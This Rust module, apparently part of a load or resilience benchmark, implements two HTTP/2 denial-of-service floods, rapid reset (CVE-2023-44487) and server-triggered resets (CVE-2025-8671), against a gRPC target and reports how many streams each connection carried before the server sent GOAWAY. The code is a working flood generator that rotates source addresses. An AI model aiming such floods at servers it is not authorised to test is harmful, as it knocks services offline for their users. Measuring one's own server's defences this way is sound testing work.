//! Reset floods, each for half the attack's time, reconnecting whenever the server ends a
//! connection:
//! - *rapid reset* (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at once, so the server
//!   starts work for streams the client has already given up;
//! - *server-side resets* ("MadeYouReset", CVE-2025-8671): HEADERS then a WINDOW_UPDATE of 0 on
//!   the stream, a stream error the server must answer with its own RST_STREAM.
//!
//! The report says how many streams each connection carried before the server's GOAWAY.

use std::time::{Duration, Instant};

use bench::h2wire;
use serde_json::{Value, json};

use super::{Manners, RawConn, Tally, Target, add, source};

/// Streams per connection at most, should the server never say stop.
const MAX_STREAMS: u32 = 100_000;
const CHUNK: u32 = 100;

#[derive(Clone, Copy)]
enum Flood {
    RapidReset,
    ServerResets,
}

async fn flood(target: &Target, flood: Flood, range: u8, time: Duration) -> anyhow::Result<Value> {
    let block = h2wire::grpc_request_block("/rides.v1.RideService/GetRide", &[]);
    let deadline = Instant::now() + time;
    let mut per_connection = Vec::new();
    let mut goaways = Tally::new();
    let mut server_resets = 0;
    let mut connect_failures = 0;
    let mut n = 0;
    while Instant::now() < deadline {
        n += 1;
        let Ok(conn) = RawConn::open(source(range, n), target.addr, Manners::Polite).await else {
            connect_failures += 1;
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        let mut sent = 0u32;
        while sent < MAX_STREAMS
            && Instant::now() < deadline
            && !conn.closed()
            && conn.seen.goaway().is_none()
        {
            let mut out = Vec::new();
            for _ in 0..CHUNK {
                let stream = 2 * sent + 1;
                h2wire::headers(&mut out, stream, &block, false);
                match flood {
                    Flood::RapidReset => h2wire::rst_stream(&mut out, stream, h2wire::CANCEL),
                    Flood::ServerResets => h2wire::window_update(&mut out, stream, 0),
                }
                sent += 1;
            }
            if conn.send(&out).await.is_err() {
                break;
            }
        }
        // Let the last answers arrive before counting them.
        tokio::time::sleep(Duration::from_millis(200)).await;
        per_connection.push(sent);
        server_resets += conn.seen.resets_total();
        match conn.seen.goaway() {
            Some((_, code)) => add(&mut goaways, code),
            None if conn.closed() => add(&mut goaways, "closed without GOAWAY"),
            None => add(&mut goaways, "none (attacker stopped)"),
        }
    }
    per_connection.sort_unstable();
    Ok(json!({
        "connections": per_connection.len(),
        "connect_failures": connect_failures,
        "streams_sent": per_connection.iter().map(|&s| u64::from(s)).sum::<u64>(),
        "streams_per_connection_median": per_connection.get(per_connection.len() / 2),
        "streams_per_connection_max": per_connection.last(),
        "server_rst_streams": server_resets,
        "connection_ends": goaways,
    }))
}

pub async fn run(target: &Target) -> anyhow::Result<Value> {
    let half = Duration::from_secs(target.secs.max(2) / 2);
    Ok(json!({
        "rapid_reset": flood(target, Flood::RapidReset, 40, half).await?,
        "server_resets": flood(target, Flood::ServerResets, 41, half).await?,
    }))
}
